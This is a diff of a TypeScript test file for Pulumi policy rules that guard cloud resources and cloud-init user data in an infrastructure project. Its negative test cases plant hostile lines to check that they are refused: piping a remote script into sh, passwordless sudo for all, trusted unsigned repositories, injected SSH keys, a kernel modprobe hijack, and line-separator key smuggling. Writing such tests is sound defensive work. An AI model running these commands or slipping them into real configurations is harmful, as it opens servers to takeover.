@@ -1,16 +1,18 @@
 import assert from "node:assert/strict";
 import { describe, it } from "node:test";
 import { unknownCheckingProxy } from "@pulumi/policy";
+import type { Clinic } from "../../clinic/clinic.ts";
 import { deployPractice } from "../../components/practice.ts";
-import { plainValue, secretValue } from "../../components/provider/property-values.ts";
+import { plainValue, secretValue, UNKNOWN_YET } from "../../components/provider/property-values.ts";
 import type { Properties } from "../../policies/cloud-rule.ts";
-import { birthFaults } from "../../policies/cloud-birth.ts";
+import { replaced } from "../../policies/breaking.ts";
+import { birthFaults, birthFindings } from "../../policies/cloud-birth.ts";
 import { OPEN } from "../../policies/cloud-firewall.ts";
 import { CLOUD_RULES } from "../../policies/cloud-rules.ts";
 import { render } from "../../render/render.ts";
 import { userDataOf } from "../../render/user-data.ts";
 import { recorded } from "../components/recorded.ts";
-import { CLINIC } from "../fixtures/clinic.ts";
+import { CLINIC, MIRRORED } from "../fixtures/clinic.ts";
 import { GOOD_CLINICS } from "../fixtures/good-clinics.ts";
 
 /** What the pack would say, asked as the engine asks: reading what is not known yet throws. */
@@ -21,6 +23,19 @@ function said(type: string, properties: Properties, provider: Properties = {}): 
     rule.check(resource).map((what) => `${rule.id}: ${what}`),
   );
 }
+
+const TODAY = "2026-11-23";
+const BIRTH = { hostKey: { privateKey: "a", publicKey: "b" } };
+
+function userDataFor(clinic: Clinic): string {
+  return userDataOf(render(clinic), clinic, BIRTH);
+}
+
+const SSHD = "/etc/ssh/sshd_config.d/00-stillroom.conf";
+const DEBIAN_SOURCES = "/etc/stillroom/sources.list.d/debian.sources";
+const FIREWALL_UNIT = "/etc/systemd/system/stillroom-firewall.service";
+const JOURNAL = "/etc/systemd/journald.conf.d/zz-stillroom.conf";
+const SYSCTL = "/etc/sysctl.d/90-stillroom.conf";
 
 /** Providers themselves, and components: the engine names no provider for them. */
 const MADE_BY_NOBODY = /^pulumi:|^stillroom:index:\w+Machine$/;
@@ -48,17 +63,27 @@ const INSTANCE = {
   metadataOptions: { httpTokens: "required", httpPutResponseHopLimit: 1 },
   rootBlockDevice: { encrypted: true, kmsKeyId: UNKNOWN_TEXT },
   tags: { Name: "h1.quiet-harbour.example" },
+  userData: UNKNOWN_TEXT,
 };
+const ROUTES = { vpcId: UNKNOWN_TEXT, routes: [{ cidrBlock: "0.0.0.0/0", gatewayId: UNKNOWN_TEXT }] };
+const INTERFACE = { subnetId: UNKNOWN_TEXT, securityGroups: [UNKNOWN_TEXT] };
+const ADDRESS = { zone: "quiet-harbour.example", name: "meet", type: "A", records: [{ value: UNKNOWN_TEXT }] };
 const ingress = (rule: Properties): Properties => ({
   ingress: [{ protocol: "tcp", fromPort: 22, toPort: 22, ...rule }],
 });
 
 const HETZNER_SERVER = "hcloud:index/server:Server";
 const HETZNER_FIREWALL = "hcloud:index/firewall:Firewall";
+const HETZNER_PROVIDER = "pulumi:providers:hcloud";
+const AWS_KEY = "aws:kms/key:Key";
 const HETZNER_VOLUME = "hcloud:index/volume:Volume";
 const AWS_INSTANCE = "aws:ec2/instance:Instance";
 const AWS_GROUP = "aws:ec2/securityGroup:SecurityGroup";
 const AWS_VOLUME = "aws:ebs/volume:Volume";
+const AWS_INTERFACE = "aws:ec2/networkInterface:NetworkInterface";
+const AWS_ROUTES = "aws:ec2/routeTable:RouteTable";
+const HETZNER_RECORD = "hcloud:index/zoneRrset:ZoneRrset";
+const AWS_RECORD = "aws:route53/record:Record";
 const AWS_GROUP_RULE = "aws:ec2/securityGroupRule:SecurityGroupRule";
 const AWS_EGRESS_RULE = "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule";
 
@@ -213,7 +238,100 @@ const BAD: readonly (readonly [string, string, Properties, RegExp])[] = [
     "a command at birth",
     HETZNER_SERVER,
     { ...SERVER, userData: "#cloud-config\ndisable_root: true\nssh_pwauth: false\nruncmd: [[curl, example]]\n" },
-    /^cloud-access: .*not systemctl/,
+    /^cloud-access: .*does not run exactly the commands/,
+  ],
+  ["a birth with nothing closed", HETZNER_SERVER, { ...SERVER, userData: undefined }, /^cloud-access: .*born without/],
+  ["a birth of two kinds", HETZNER_SERVER, { ...SERVER, userData: { x: 1 } }, /^cloud-access: .*is no text/],
+  ["AWS's own key by its name", AWS_VOLUME, { ...DISK, kmsKeyId: "alias/aws/ebs" }, /^cloud-encryption: .*AWS's key/],
+  ["AWS's own key by its number", AWS_VOLUME, { ...DISK, kmsKeyId: "" }, /^cloud-encryption: .*AWS's key/],
+  [
+    "AWS's own key for the system",
+    AWS_INSTANCE,
+    { ...INSTANCE, rootBlockDevice: { encrypted: true, kmsKeyId: "arn:aws:kms:eu-central-1:1:alias/aws/ebs" } },
+    /^cloud-encryption: .*AWS's key/,
+  ],
+  [
+    "a second disk made from a snapshot",
+    AWS_INSTANCE,
+    { ...INSTANCE, ebsBlockDevices: [{ ...DISK, snapshotId: "snap-1" }] },
+    /^cloud-encryption: .*copy of another/,
+  ],
+  ["a key that is off", AWS_KEY, { enableKeyRotation: true, isEnabled: false }, /^cloud-encryption: The key is off/],
+  [
+    "a volume in another region's zone",
+    AWS_VOLUME,
+    { ...DISK, availabilityZone: "us-east-1a" },
+    /^cloud-region: .*zone/,
+  ],
+  [
+    "a volume in another city",
+    AWS_VOLUME,
+    { ...DISK, availabilityZone: "eu-central-1-ham-1a" },
+    /^cloud-region: The zone "eu-central-1-ham-1a"/,
+  ],
+  [
+    "an interface that is not said",
+    AWS_INSTANCE,
+    { ...INSTANCE, primaryNetworkInterface: undefined },
+    /^cloud-firewall: .*default security group/,
+  ],
+  [
+    "an interface without a group",
+    AWS_INTERFACE,
+    { ...INTERFACE, securityGroups: [] },
+    /^cloud-firewall: The interface .*default security group/,
+  ],
+  ["a router", AWS_INTERFACE, { ...INTERFACE, sourceDestCheck: false }, /^cloud-firewall: .*not the machine's own/],
+  [
+    "an instance that routes",
+    AWS_INSTANCE,
+    { ...INSTANCE, sourceDestCheck: false },
+    /^cloud-firewall: .*not the machine/,
+  ],
+  ...["vpcPeeringConnectionId", "networkInterfaceId", "transitGatewayId"].map(
+    (key) =>
+      [
+        `a way out by ${key}`,
+        AWS_ROUTES,
+        { ...ROUTES, routes: [{ cidrBlock: "0.0.0.0/0", [key]: UNKNOWN_TEXT }] },
+        new RegExp(`^cloud-kinds: .*What ${key} does in routes`),
+      ] as const,
+  ),
+  ...[
+    ["mail to everybody", "tcp", "25"],
+    ["a range to one network", "tcp", "1-65535"],
+    ["every port in two halves", "tcp", "any"],
+    ["no port at all", "udp", undefined],
+  ].map(
+    ([how, protocol, port]) =>
+      [
+        `a firewall that lets out ${how ?? ""}`,
+        HETZNER_FIREWALL,
+        firewallWith({
+          direction: "out",
+          protocol,
+          port,
+          destinationIps: port === "25" ? ["0.0.0.0/0"] : ["203.0.113.0/24"],
+        }),
+        /^cloud-firewall: Whatever leaves by/,
+      ] as const,
+  ),
+  ...["CNAME", "NS", "MX"].map(
+    (kind) =>
+      [
+        `a record of the type ${kind}`,
+        HETZNER_RECORD,
+        { ...ADDRESS, type: kind, records: [{ value: "edge.example." }] },
+        new RegExp(`^cloud-kinds: .*of the type "${kind}"`),
+      ] as const,
+  ),
+  ["a record at AWS", AWS_RECORD, { zoneId: "z", name: "meet", type: "CNAME" }, /^cloud-kinds: .*of the type "CNAME"/],
+  ["a stranger for Hetzner", HETZNER_PROVIDER, { endpoint: "https://198.51.100.1" }, /^cloud-kinds: .*What endpoint/],
+  [
+    "a stranger for AWS",
+    "pulumi:providers:aws",
+    { region: "eu-central-1", endpoints: [{ ec2: "https://198.51.100.1" }] },
+    /^cloud-kinds: .*What endpoints/,
   ],
   ["packed user data", AWS_INSTANCE, { ...INSTANCE, userDataBase64: UNKNOWN_TEXT }, /^cloud-access: .*packed/],
   ["a command over SSH", "command:remote:Command", { create: "true" }, /^cloud-access: command:remote:Command runs/],
@@ -257,7 +375,11 @@ const BAD: readonly (readonly [string, string, Properties, RegExp])[] = [
 describe("rules over the cloud's resources", () => {
   for (const [how, type, properties, expected] of BAD) {
     it(`refuse ${how}`, () => {
-      assert.match(said(type, properties).join("\n"), expected);
+      const sentences = said(type, properties);
+      assert.ok(
+        sentences.some((sentence) => expected.test(sentence)),
+        sentences.join("\n"),
+      );
     });
   }
 
@@ -266,6 +388,13 @@ describe("rules over the cloud's resources", () => {
     assert.deepEqual(said(HETZNER_FIREWALL, FIREWALL), []);
     assert.deepEqual(said(AWS_INSTANCE, INSTANCE), []);
     assert.deepEqual(said(AWS_VOLUME, { ...DISK, region: "eu-west-1" }, { region: "eu-west-1" }), []);
+    assert.deepEqual(said(AWS_VOLUME, { ...DISK, availabilityZone: "eu-west-1b" }, { region: "eu-west-1" }), []);
+    assert.deepEqual(said(AWS_VOLUME, { ...DISK, availabilityZone: UNKNOWN_TEXT }, { region: "eu-west-1" }), []);
+    assert.deepEqual(said(AWS_KEY, { enableKeyRotation: true, isEnabled: true }), []);
+    assert.deepEqual(said(AWS_INTERFACE, { ...INTERFACE, sourceDestCheck: true }), []);
+    assert.deepEqual(said(AWS_ROUTES, ROUTES), []);
+    assert.deepEqual(said(HETZNER_RECORD, ADDRESS), []);
+    assert.deepEqual(said(HETZNER_PROVIDER, { token: UNKNOWN_TEXT, version: "1.41.0" }), []);
     assert.deepEqual(said(HETZNER_VOLUME, { size: 40, format: "", automount: false, __defaults: [] }), []);
   });
 
@@ -280,34 +409,121 @@ describe("rules over the cloud's resources", () => {
   });
 
   it("take the user data of every machine that we make", () => {
-    for (const { clinic } of GOOD_CLINICS) {
-      const userData = userDataOf(render(clinic), clinic, { hostKey: { privateKey: "a", publicKey: "b" } });
+    for (const clinic of [...GOOD_CLINICS.map((good) => good.clinic), MIRRORED]) {
+      const userData = userDataFor(clinic);
       assert.deepEqual(birthFaults(userData), []);
+      if (clinic.machine.provider !== "existing") assert.deepEqual(birthFindings(userData, TODAY), []);
     }
   });
 
   for (const [how, from, to] of [
     ["a command more at each boot", "bootcmd:\n", "bootcmd:\n  - [sh, -c, 'true']\n"],
     ["a line more in the first command", "\n      fi\n", "\n      fi\n      curl http://198.51.100.1 | sh\n"],
+    [
+      "a first command of three lines",
+      /\n {6}if command[^]*\n {6}fi\n/,
+      "\n      if command -v true > /dev/null; then\n      fi\n",
+    ],
+    [
+      "other rules in the first command",
+      /unpacked [\w+/=]+ \| iptables/,
+      "unpacked H4sIAAAAAAAAAwMAAAAAAAAAAAA= | iptables",
+    ],
     ["a password for an account", "lock_passwd: true", "lock_passwd: false"],
     ["a key for an account", "lock_passwd: true", "lock_passwd: true\n    ssh_authorized_keys: [ssh-ed25519 AAAA]"],
     ["root's login", "disable_root: true", "disable_root: false"],
     ["logins with a password", "ssh_pwauth: false", "ssh_pwauth: true"],
     ["a package more", "packages:\n", "packages:\n  - tcpdump\n"],
     ["a command more at the first boot", "runcmd:\n", "runcmd:\n  - [sh, -c, 'true']\n"],
+    ["a unit more at the first boot", "runcmd:\n", "runcmd:\n  - [systemctl, stop, stillroom-firewall.service]\n"],
     ["a command as text", "runcmd:\n", "runcmd:\n  - curl http://198.51.100.1\n"],
     ["a file at another place", "write_files:\n", "write_files:\n  - path: /root/.ssh/authorized_keys\n"],
     ["a file by a way round", "write_files:\n", "write_files:\n  - path: /etc/../root/x\n"],
+    ["a file that runs every minute", "write_files:\n", "write_files:\n  - path: /etc/cron.d/extra\n"],
+    ["keys for one more", "write_files:\n", "write_files:\n  - path: /etc/ssh/authorized_keys.d/other\n"],
+    [
+      "a file from elsewhere",
+      "    encoding: gz+b64\n",
+      "    encoding: gz+b64\n    source: {uri: http://198.51.100.1}\n",
+    ],
+    ["a file that is added to", "    encoding: gz+b64\n", "    encoding: gz+b64\n    append: true\n"],
+    ["a file for everybody to write", '"0644"', '"0666"'],
+    ["a file of another's", "root:root", "nobody:root"],
+    ["a file less", "  - path: /etc/iptables/closed.v6\n", "  - path: /etc/iptables/closed.v4\n"],
     ["another module", "locale:", "phone_home: {url: http://198.51.100.1}\nlocale:"],
     ["a key that stands twice", "disable_root: true", "disable_root: true\ndisable_root: false"],
+    ["a key behind a line separator", /$/, "# note\u2028phone_home: {url: http://198.51.100.1}\n"],
+    ["a key behind a next line", /$/, "# note\u0085users: [{name: other}]\n"],
+    ["accounts by name", /users:\n(?: .*\n)+/, "users: {other: {lock_passwd: true}}\n"],
+    ["the image's own accounts", /users:\n(?: .*\n)+/, "users: default\n"],
+    ["root as an administrator", "- name: ops", "- name: root"],
+    ["an administrator of another group", "      - administrators\n    shell", "      - sudo\n    shell"],
+    ["a group with members", "groups:\n  - administrators\n", "groups: {sudo: [www-data]}\n"],
+    ["packages as text", /packages:\n(?: .*\n)+/, "packages: tor\n"],
+    ["a setting of apt's", "apt:\n", 'apt:\n  conf: APT::Update::Pre-Invoke {"true"};\n'],
+    ["a repository", "apt:\n", "apt:\n  sources: {x: {source: 'deb [trusted=yes] http://198.51.100.1 ./'}}\n"],
+    ["a proxy for packages", "apt:\n", "apt:\n  https_proxy: http://198.51.100.1:3128\n"],
+    ["a telling name", /fqdn: .*/, "fqdn: therapy.quiet-harbour.example"],
+    ["a second host key", "ssh_keys:\n", "ssh_keys:\n  rsa_private: x\n"],
   ] as const) {
     it(`refuse ${how} in the user data`, () => {
-      const userData = userDataOf(render(CLINIC), CLINIC, { hostKey: { privateKey: "a", publicKey: "b" } });
-      const changed = userData.replace(from, () => to);
-      assert.ok(changed !== userData, "nothing was changed");
+      const changed = userDataFor(CLINIC).replace(from, () => to);
+      assert.ok(changed !== userDataFor(CLINIC), "nothing was changed");
       assert.notDeepEqual(birthFaults(changed), []);
     });
   }
+
+  for (const [how, path, from, to, expected] of [
+    [
+      "a port opened",
+      "/etc/iptables/birth.v4",
+      "-A OUTPUT -o lo",
+      "-A INPUT -p tcp --dport 80 -j ACCEPT\n-A OUTPUT -o lo",
+      /birth\.v4/,
+    ],
+    ["a filter that lets everything in", "/etc/iptables/closed.v6", ":INPUT DROP", ":INPUT ACCEPT", /closed\.v6/],
+    [
+      "passwords over SSH",
+      SSHD,
+      "PasswordAuthentication no",
+      "PasswordAuthentication yes",
+      /passwordauthentication is yes/,
+    ],
+    ["sudo for everybody", "/etc/sudoers.d/90-stillroom", /$/, "ALL ALL=(ALL) NOPASSWD: ALL\n", /sudoers/],
+    ["unsigned packages", DEBIAN_SOURCES, "Types: deb", "Trusted: yes\nTypes: deb", /debian\.sources/],
+    [
+      "another loader",
+      "/usr/local/lib/stillroom/load-firewall",
+      /$/,
+      "curl http://198.51.100.1 | sh\n",
+      /load-firewall/,
+    ],
+    [
+      "a unit that runs more",
+      FIREWALL_UNIT,
+      "[Service]\n",
+      "[Service]\nExecStartPre=/bin/true\n",
+      /stillroom-firewall/,
+    ],
+    ["a log kept for a year", JOURNAL, /MaxRetentionSec=\d+day/, "MaxRetentionSec=365day", /zz-stillroom/],
+    ["a program of the kernel's", SYSCTL, /$/, "kernel.modprobe = /tmp/x\n", /90-stillroom/],
+    ["a key that does more", "/etc/ssh/authorized_keys.d/ops", /^/, 'command="true" ', /No stack file gives/],
+  ] as const) {
+    it(`refuse ${how} in a file of the user data`, () => {
+      const release = render(CLINIC);
+      const changed = replaced(release, path, from, to);
+      const found = birthFindings(userDataOf(changed, CLINIC, BIRTH), TODAY);
+      assert.ok(
+        found.some((what) => expected.test(what)),
+        found.join("\n"),
+      );
+    });
+  }
+
+  it("refuse rules for nft that are not those of the files", () => {
+    const wider = { ...CLINIC, administrationFrom: [...CLINIC.administrationFrom, "203.0.113.0/24"] };
+    assert.notDeepEqual(birthFindings(userDataOf(render(CLINIC), wider, BIRTH), TODAY), []);
+  });
 
   it("throw for a value that must be known and is not, so that the pack makes a finding of it", () => {
     assert.throws(() => said(HETZNER_SERVER, { ...SERVER, serverType: UNKNOWN_TEXT }), /serverType can't be known/);
@@ -341,7 +557,9 @@ describe("rules over the cloud's resources", () => {
 
 /** Secrets opened, as the engine hands them to a pack; unknown values stay as they are. */
 function withUnknownTexts(inputs: Properties): Properties {
-  return JSON.parse(JSON.stringify(inputs), (_key, value: unknown) =>
-    typeof plainValue(value) === "string" ? plainValue(value) : value,
-  ) as Properties; // it was Properties before
+  return JSON.parse(JSON.stringify(inputs), (_key, value: unknown) => {
+    const plain = plainValue(value);
+    if (plain === UNKNOWN_YET) return UNKNOWN_TEXT;
+    return typeof plain === "string" ? plain : value;
+  }) as Properties; // it was Properties before
 }
